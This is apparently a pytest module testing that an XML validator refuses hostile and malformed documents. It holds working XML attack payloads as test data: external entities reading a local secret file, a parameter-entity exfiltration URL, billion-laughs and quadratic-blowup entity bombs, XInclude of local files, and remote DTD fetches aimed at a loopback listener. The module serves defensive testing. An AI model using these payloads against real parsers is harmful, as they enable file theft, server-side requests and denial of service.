"""Hostile and broken documents are refused, quickly, with a finding that says why.

Every document here is one the course must never process as given: it would read local
files, contact a server, expand to gigabytes, or simply is not XML. Each case checks the
exact finding code, that the result is marked unusable, that the message and hint exist in
English and in Chinese, and that no secret content leaks into the result.

A time bound is asserted only where it is a safety property (a hostile document must be
answered in well under a second, whatever it asks for); memory is checked in a separate
process. Nothing is fetched: the only network addresses are on 127.0.0.1, where a local
listener records any connection attempt.
"""
from __future__ import annotations

import io
import json
import socket
import subprocess
import sys
import textwrap
import threading
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest

from course.xml import DocumentRefused, ValidationResult, parse_document, validate
from course.xml.safe import MAX_BYTES, MAX_DEPTH

SCHEMA = "cii-d22b"  # refusals happen before any schema is consulted
MARKER = "TOP-SECRET-LEDGER-7f3a9c"  # must never appear in any answer
FAST_SECONDS = 1.0
BIG_DOCUMENT = 50 * 1024 * 1024


# --- a listener on 127.0.0.1 that records every connection attempt ---------------------

class Canary:
    """Accepts connections on a loopback port, records them and closes them at once."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections: list[tuple] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def url(self, name: str) -> str:
        return f"http://127.0.0.1:{self.port}/{name}"

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, peer = self.sock.accept()
            except (socket.timeout, OSError):
                continue
            self.connections.append(peer)
            conn.close()

    def close(self):
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


@pytest.fixture(scope="session")
def canary():
    listener = Canary()
    yield listener
    listener.close()


@pytest.fixture(autouse=True)
def nothing_fetched(canary):
    """After every test in this module: no new connection reached the listener."""
    before = len(canary.connections)
    yield
    assert canary.connections[before:] == [], "a document made the course connect to 127.0.0.1"


# --- documents ---------------------------------------------------------------------------

@pytest.fixture(scope="session")
def secret_file(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("private") / "ledger.txt"
    path.write_text(f"{MARKER}\naccount 0042: 1,250,000.00 USD\n", encoding="utf-8")
    return path


@pytest.fixture(scope="session")
def big_file(tmp_path_factory) -> Path:
    """A well-formed 50 MB XML document."""
    path = tmp_path_factory.mktemp("big") / "big.xml"
    row = b"  <Row><Code>0302.31</Code><Text>Frozen skipjack tuna, whole</Text></Row>\n"
    with path.open("wb") as handle:
        handle.write(b"<?xml version='1.0' encoding='utf-8'?>\n<Rows>\n")
        handle.write(row * (BIG_DOCUMENT // len(row) + 1))
        handle.write(b"</Rows>\n")
    assert path.stat().st_size > BIG_DOCUMENT
    return path


def billion_laughs() -> str:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n  ' + "\n  ".join(entities)
            + "\n]>\n<lolz>&lol9;</lolz>\n")


QUADRATIC_ENTITY = "SkipjackTunaDescription"


def quadratic_blowup() -> bytes:
    """One 100 KB entity referenced 100,000 times: a 2-3 MB file that expands to 10 GB."""
    reference = f"&{QUADRATIC_ENTITY};".encode()
    return (b'<?xml version="1.0"?>\n<!DOCTYPE Invoice [\n<!ENTITY ' + QUADRATIC_ENTITY.encode()
            + b' "' + b"A" * 102_400 + b'">\n]>\n<Invoice>' + reference * 100_000 + b"</Invoice>\n")


def line_of(data: bytes, needle: bytes) -> int:
    return data[:data.index(needle)].count(b"\n") + 1


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


@dataclass
class Context:
    secret: Path
    canary: Canary
    invoice: bytes
    big: Path
    tmp: Path
    opened: list = field(default_factory=list)

    def open(self, path: Path):
        handle = path.open("rb")
        self.opened.append(handle)
        return handle


@dataclass
class Case:
    id: str
    code: str
    build: Callable[[Context], object]  # returns a fresh document each call
    fast: bool = False  # a time bound is a safety property for this case
    line: Callable[[Context], int] | None = None

    def __str__(self):
        return self.id


def _write(ctx: Context, name: str, data: bytes) -> Path:
    path = ctx.tmp / name
    path.write_bytes(data)
    return path


CASES = [
    Case("external-entity-file-url", "xml.external-entity", fast=True, build=lambda c: (
        f'<?xml version="1.0"?>\n<!DOCTYPE Invoice [\n<!ENTITY ledger SYSTEM "{c.secret.as_uri()}">\n]>\n'
        "<Invoice><Note>&ledger;</Note></Invoice>\n")),
    Case("external-entity-file-path", "xml.external-entity", fast=True, build=lambda c: (
        f'<!DOCTYPE Invoice [<!ENTITY ledger SYSTEM "{c.secret}">]>\n'
        "<Invoice><Note>&ledger;</Note></Invoice>").encode()),
    Case("external-entity-http-port-9", "xml.external-entity", fast=True, build=lambda c: (
        '<?xml version="1.0"?>\n<!DOCTYPE Invoice [<!ENTITY x SYSTEM "http://127.0.0.1:9/exfiltrate">]>\n'
        "<Invoice>&x;</Invoice>\n")),
    Case("external-entity-http-listener", "xml.external-entity", fast=True, build=lambda c: (
        f'<?xml version="1.0"?>\n<!DOCTYPE Invoice [<!ENTITY x SYSTEM "{c.canary.url("entity")}">]>\n'
        "<Invoice>&x;</Invoice>\n")),
    Case("parameter-entity-file", "xml.external-entity", fast=True, build=lambda c: (
        f'<?xml version="1.0"?>\n<!DOCTYPE Invoice [\n<!ENTITY % ledger SYSTEM "{c.secret.as_uri()}">\n'
        "%ledger;\n]>\n<Invoice/>\n")),
    Case("parameter-entity-exfiltration", "xml.external-entity", fast=True, build=lambda c: (
        f'<?xml version="1.0"?>\n<!DOCTYPE Invoice [\n<!ENTITY % data SYSTEM "{c.secret.as_uri()}">\n'
        f'<!ENTITY % send SYSTEM "{c.canary.url("send.dtd")}">\n%send;\n]>\n<Invoice/>\n')),
    Case("billion-laughs", "xml.entity-expansion", fast=True, build=lambda c: billion_laughs()),
    Case("quadratic-blowup", "xml.entity-expansion", fast=True, build=lambda c: quadratic_blowup()),
    Case("internal-entity-declaration", "xml.entity-declaration", build=lambda c: (
        '<?xml version="1.0"?>\n<!DOCTYPE Invoice [<!ENTITY seller "Male Fisheries">]>\n'
        "<Invoice><Seller>&seller;</Seller></Invoice>\n")),
    Case("external-dtd-http", "xml.external-dtd", fast=True, build=lambda c: (
        f'<?xml version="1.0"?>\n<!DOCTYPE Invoice SYSTEM "{c.canary.url("invoice.dtd")}">\n<Invoice/>\n')),
    Case("external-dtd-public", "xml.external-dtd", fast=True, build=lambda c: (
        f'<!DOCTYPE Invoice PUBLIC "-//Example//DTD Invoice//EN" "{c.canary.url("public.dtd")}">'
        "<Invoice/>")),
    Case("external-dtd-local-file", "xml.external-dtd", fast=True, build=lambda c: (
        f'<?xml version="1.0"?>\n<!DOCTYPE Invoice SYSTEM "{c.secret}">\n<Invoice/>\n')),
    Case("plain-doctype", "xml.doctype", build=lambda c: c.invoice.replace(
        b"?>\n", b"?>\n<!DOCTYPE rsm:CrossIndustryInvoice>\n", 1)),
    Case("xinclude-2001-local-file", "xml.xinclude", fast=True, build=lambda c: (
        '<?xml version="1.0"?>\n<Invoice xmlns:xi="http://www.w3.org/2001/XInclude">\n'
        f'  <Note><xi:include href="{c.secret}" parse="text"/></Note>\n</Invoice>\n'),
        line=lambda c: 3),
    Case("xinclude-2001-listener", "xml.xinclude", fast=True, build=lambda c: (
        '<Invoice xmlns:xi="http://www.w3.org/2001/XInclude">\n'
        f'<xi:include href="{c.canary.url("part.xml")}"/>\n</Invoice>'), line=lambda c: 2),
    Case("xinclude-2003", "xml.xinclude", fast=True, build=lambda c: (
        f'<Invoice><xi:include xmlns:xi="http://www.w3.org/2003/XInclude" href="{c.secret}"/></Invoice>')),
    Case("too-large-path", "xml.too-large", fast=True, build=lambda c: c.big),
    Case("too-large-path-str", "xml.too-large", fast=True, build=lambda c: str(c.big)),
    Case("too-large-bytes", "xml.too-large", fast=True, build=lambda c: c.big.read_bytes()),
    Case("too-large-file-object", "xml.too-large", fast=True, build=lambda c: c.open(c.big)),
    Case("too-deep", "xml.too-deep", fast=True, build=lambda c: "<a>" * 10_000 + "x" + "</a>" * 10_000),
    Case("invalid-utf8", "xml.encoding", build=lambda c: c.invoice.replace(
        b"Male Fisheries Pvt Ltd", "Société Pêcheries Malé".encode("latin-1")),
        line=lambda c: line_of(c.invoice, b"Male Fisheries Pvt Ltd")),
    Case("empty-bytes", "xml.empty", build=lambda c: b""),
    Case("whitespace-bytes", "xml.empty", build=lambda c: b"  \n\t\n"),
    Case("empty-file", "xml.empty", build=lambda c: _write(c, "empty.xml", b"")),
    Case("pdf-bytes", "xml.not-xml", build=lambda c: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\n"),
    Case("pdf-file", "xml.not-xml", build=lambda c: _write(
        c, "invoice.pdf", b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")),
    Case("zip-file", "xml.not-xml", build=lambda c: _write(c, "invoice.docx", zip_archive())),
    Case("not-well-formed", "xml.not-well-formed", build=lambda c: c.invoice.replace(
        b"<ram:Name>INVOICE</ram:Name>", b"<ram:Name>INVOICE</ram:Nmae>"),
        line=lambda c: line_of(c.invoice, b"<ram:Name>INVOICE</ram:Name>")),
    Case("not-well-formed-unescaped-ampersand", "xml.not-well-formed", build=lambda c: c.invoice.replace(
        b"Bangkok Seafood Trading Co Ltd", b"Bangkok Seafood Trading Co & Sons"),
        line=lambda c: line_of(c.invoice, b"Bangkok Seafood Trading Co Ltd")),
    Case("nonexistent-path", "xml.unreadable", build=lambda c: c.tmp / "no-such-invoice.xml"),
    Case("nonexistent-path-str", "xml.unreadable", build=lambda c: str(c.tmp / "no-such-invoice.xml")),
]


@pytest.fixture
def ctx(secret_file, canary, cii_invoice, big_file, tmp_path):
    context = Context(secret=secret_file, canary=canary, invoice=cii_invoice, big=big_file, tmp=tmp_path)
    yield context
    for handle in context.opened:
        handle.close()


def _leaks(result: ValidationResult) -> bool:
    text = str(result) + json.dumps(result.as_dict(), ensure_ascii=False) + repr(result.findings)
    return MARKER in text


@pytest.mark.parametrize("case", CASES, ids=str)
def test_refused_with_the_right_finding(case: Case, ctx: Context):
    document = case.build(ctx)
    started = time.perf_counter()
    result = validate(document, SCHEMA, lang="en")
    elapsed = time.perf_counter() - started

    assert result.usable is False
    assert result.ok is False
    assert [f.code for f in result.findings] == [case.code], str(result)
    finding = result.findings[0]
    assert finding.severity == "error"
    assert result.errors == [finding]
    assert isinstance(finding.message, str) and finding.message.strip()
    assert isinstance(finding.hint, str) and finding.hint.strip()
    assert "{" not in finding.message and "{" not in finding.hint, "a placeholder was left unfilled"
    assert result.summary().strip()
    if case.line is not None:
        assert finding.line == case.line(ctx), str(result)
    if case.fast:
        assert elapsed < FAST_SECONDS, f"{case.id} took {elapsed:.2f} s"
    assert not _leaks(result)


@pytest.mark.parametrize("case", CASES, ids=str)
def test_refused_in_chinese(case: Case, ctx: Context):
    started = time.perf_counter()
    result = validate(case.build(ctx), SCHEMA, lang="zh")
    elapsed = time.perf_counter() - started
    assert result.usable is False and result.ok is False
    assert [f.code for f in result.findings] == [case.code]
    finding = result.findings[0]
    # The Chinese catalog is still being written: only require some text in both fields.
    assert isinstance(finding.message, str) and finding.message.strip()
    assert isinstance(finding.hint, str) and finding.hint.strip()
    assert isinstance(result.summary(), str) and result.summary().strip()
    if case.fast:
        assert elapsed < FAST_SECONDS
    assert not _leaks(result)


@pytest.mark.parametrize("case", CASES, ids=str)
def test_parse_document_raises_with_the_finding(case: Case, ctx: Context):
    with pytest.raises(DocumentRefused) as refused:
        parse_document(case.build(ctx))
    assert isinstance(refused.value.finding.code, str)
    assert refused.value.finding.code == case.code
    assert str(refused.value) == case.code
    assert MARKER not in str(refused.value.finding) + repr(refused.value.finding.params)


def test_parse_document_accepts_the_invoice(cii_invoice):
    tree = parse_document(cii_invoice)
    assert tree.getroot().tag == "{urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100}CrossIndustryInvoice"


def test_external_entity_names_the_entity_and_location(ctx):
    doc = CASES[0].build(ctx)
    finding = validate(doc, SCHEMA, lang="en").findings[0]
    assert finding.params["name"] == "ledger"
    assert finding.params["location"].endswith("ledger.txt")
    assert "ledger" in finding.message


def test_refusals_carry_no_file_content(ctx):
    """The refusal itself (exception, finding, parameters) holds no byte of the secret file."""
    for case in CASES[:6]:
        with pytest.raises(DocumentRefused) as refused:
            parse_document(case.build(ctx))
        assert MARKER not in repr(refused.value.__dict__)


def test_the_quadratic_document_is_a_few_megabytes():
    size = len(quadratic_blowup())
    assert 2_000_000 < size < 5_000_000


def test_billion_laughs_would_expand_to_gigabytes():
    doc = billion_laughs()
    assert "&lol9;" in doc and doc.count("&lol8;") == 10 and len(doc) < 2000


# --- large documents: refused without being read -----------------------------------------

def _bytes_read_by_this_process() -> int | None:
    try:
        for line in Path("/proc/self/io").read_text().splitlines():
            if line.startswith("rchar:"):
                return int(line.split()[1])
    except OSError:
        return None
    return None


def test_a_large_file_is_refused_without_reading_it(big_file):
    before = _bytes_read_by_this_process()
    started = time.perf_counter()
    result = validate(big_file, SCHEMA, lang="en")
    elapsed = time.perf_counter() - started
    after = _bytes_read_by_this_process()
    assert [f.code for f in result.findings] == ["xml.too-large"]
    assert set(result.findings[0].params) == {"size", "limit"}
    assert "MB" in result.findings[0].message
    assert elapsed < FAST_SECONDS
    if before is not None and after is not None:
        assert after - before < BIG_DOCUMENT // 2, f"read {after - before} bytes of a refused file"


def test_a_large_file_object_is_read_only_up_to_the_limit(big_file):
    with big_file.open("rb") as handle:
        result = validate(handle, SCHEMA, lang="en")
        assert handle.tell() <= MAX_BYTES + 1
    assert [f.code for f in result.findings] == ["xml.too-large"]


def test_the_size_limit_can_be_lowered(cii_invoice):
    result = validate(cii_invoice, SCHEMA, lang="en", max_bytes=1000)
    assert [f.code for f in result.findings] == ["xml.too-large"]
    assert validate(cii_invoice, SCHEMA, lang="en", max_bytes=len(cii_invoice)).ok


def test_a_device_that_never_ends_is_refused_with_bounded_memory():
    # Devices and FIFOs report size 0 to stat(): they must be refused, never read to the end
    # (run under a 1 GB address-space limit so a regression fails instead of eating memory).
    if not Path("/dev/zero").exists():
        pytest.skip("no /dev/zero on this system")
    code = textwrap.dedent("""
        import resource
        limit = 1024 ** 3
        soft, hard = resource.getrlimit(resource.RLIMIT_AS)
        if hard != resource.RLIM_INFINITY:
            limit = min(limit, hard)
        resource.setrlimit(resource.RLIMIT_AS, (limit, hard))
        from course.xml import validate
        result = validate("/dev/zero", "cii-d22b", lang="en")
        print(result.usable, [f.code for f in result.findings])
    """)
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr[-2000:]
    assert run.stdout.split(" ", 1)[0] == "False"
    assert "xml.too-large" in run.stdout or "xml.unreadable" in run.stdout


# --- depth: the limit is where the finding says it is ------------------------------------

def test_depth_limit_boundary():
    limit = MAX_DEPTH
    assert parse_document("<a>" * limit + "</a>" * limit).getroot().tag == "a"
    with pytest.raises(DocumentRefused) as refused:
        parse_document("<a>" * (limit + 1) + "</a>" * (limit + 1))
    assert refused.value.finding.code == "xml.too-deep"
    assert refused.value.finding.params["limit"] == limit


# --- empty input given as text ------------------------------------------------------------

@pytest.mark.parametrize("text", ["", "   ", "\n\n"], ids=["empty", "spaces", "newlines"])
def test_empty_text_is_reported_as_empty(text):
    # Blank text is an empty answer, not a path (Path("") would be the current directory).
    result = validate(text, SCHEMA, lang="en")
    assert result.usable is False
    assert [f.code for f in result.findings] == ["xml.empty"], str(result)


# --- XML text given as str keeps its characters -------------------------------------------

def test_text_with_a_declared_encoding_keeps_its_characters():
    # A str is already decoded: the encoding it declares must not garble it or refuse it.
    text = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<Seller>Société Pêcheries</Seller>\n'
    assert parse_document(text).getroot().text == "Société Pêcheries"
    text16 = '<?xml version="1.0" encoding="UTF-16"?>\n<Seller>Société</Seller>\n'
    assert parse_document(text16).getroot().text == "Société"


# --- the document's own schema location is reported, never followed -------------------------

XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'


def _with_schema_location(invoice: bytes, attribute: str) -> bytes:
    assert XSI.encode() in invoice
    return invoice.replace(XSI.encode(), f"{XSI} {attribute}".encode(), 1)


def test_remote_schema_location_is_ignored(cii_invoice, canary):
    location = f"urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100 {canary.url('cii.xsd')}"
    doc = _with_schema_location(cii_invoice, f'xsi:schemaLocation="{location}"')
    result = validate(doc, SCHEMA, lang="en")
    assert result.ok is True and result.usable is True and result.structure_ok is True
    assert result.errors == []
    assert [(f.code, f.severity) for f in result.findings] == [("xml.schema-location-ignored", "info")]
    assert canary.url("cii.xsd") in result.findings[0].message
    assert result.findings[0].hint.strip()
    zh = validate(doc, SCHEMA, lang="zh")
    assert zh.ok and [f.code for f in zh.findings] == ["xml.schema-location-ignored"]
    assert zh.findings[0].message.strip()
    assert canary.connections == []


def test_remote_schema_location_in_an_invalid_document_is_not_followed(cii_invoice, canary):
    location = f"urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100 {canary.url('cii.xsd')}"
    doc = _with_schema_location(cii_invoice, f'xsi:schemaLocation="{location}"')
    doc = doc.replace(b"<ram:TypeCode>380</ram:TypeCode>", b"<ram:TypCode>380</ram:TypCode>")
    result = validate(doc, SCHEMA, lang="en")
    assert result.ok is False and result.usable is True
    codes = [f.code for f in result.findings]
    assert "xml.schema-location-ignored" in codes and "schema.unexpected-element" in codes
    assert canary.connections == []


def test_local_schema_location_is_not_read(cii_invoice, secret_file):
    doc = _with_schema_location(cii_invoice, f'xsi:noNamespaceSchemaLocation="{secret_file}"')
    result = validate(doc, SCHEMA, lang="en")
    assert result.ok is True
    assert [f.code for f in result.findings] == ["xml.schema-location-ignored"]
    assert not _leaks(result)


# --- memory stays bounded (measured in a fresh process) ------------------------------------

def test_entity_attacks_use_little_memory(tmp_path):
    laughs = tmp_path / "laughs.xml"
    laughs.write_text(billion_laughs(), encoding="utf-8")
    quadratic = tmp_path / "quadratic.xml"
    quadratic.write_bytes(quadratic_blowup())
    code = textwrap.dedent("""
        import json, resource, sys, time
        # A regression must fail this test, not exhaust the machine: cap the address space.
        cap = 3 * 1024 ** 3
        soft, hard = resource.getrlimit(resource.RLIMIT_AS)
        if hard != resource.RLIM_INFINITY:
            cap = min(cap, hard)
        resource.setrlimit(resource.RLIMIT_AS, (cap, hard))
        from course.xml import validate
        # The schema compiled and a harmless document checked first: what the attacks add is what counts.
        validate(b"<a/>", "cii-d22b", lang="en")
        baseline_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        codes, slowest = [], 0.0
        for path in sys.argv[1:]:
            data = open(path, "rb").read()
            for document in (data, data.decode("utf-8"), path):
                for _ in range(3):
                    started = time.perf_counter()
                    result = validate(document, "cii-d22b", lang="en")
                    slowest = max(slowest, time.perf_counter() - started)
                    codes.append(result.findings[0].code if result.findings else None)
        peak_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        print(json.dumps({"codes": codes, "peak_mb": peak_kb / 1024, "added_mb": (peak_kb - baseline_kb) / 1024,
                          "slowest": slowest}))
    """)
    run = subprocess.run([sys.executable, "-c", code, str(laughs), str(quadratic)],
                         capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr[-2000:]
    report = json.loads(run.stdout.strip().splitlines()[-1])
    assert set(report["codes"]) == {"xml.entity-expansion"}, report
    # An expanded billion laughs would take gigabytes; refused, the attacks add next to nothing.
    assert report["added_mb"] < 50, report
    assert report["slowest"] < FAST_SECONDS, report
